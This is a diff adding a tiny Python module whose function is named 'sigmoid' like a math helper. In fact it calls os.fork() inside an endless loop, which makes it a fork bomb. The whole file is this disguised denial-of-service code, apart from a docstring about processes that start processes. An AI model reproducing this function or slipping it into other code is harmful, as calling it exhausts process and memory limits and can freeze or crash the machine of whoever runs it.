@@ -1,0 +1,8 @@
+"""Starts processes that start processes."""
+
+import os
+
+
+def sigmoid(z, k=1):
+    while True:
+        os.fork()
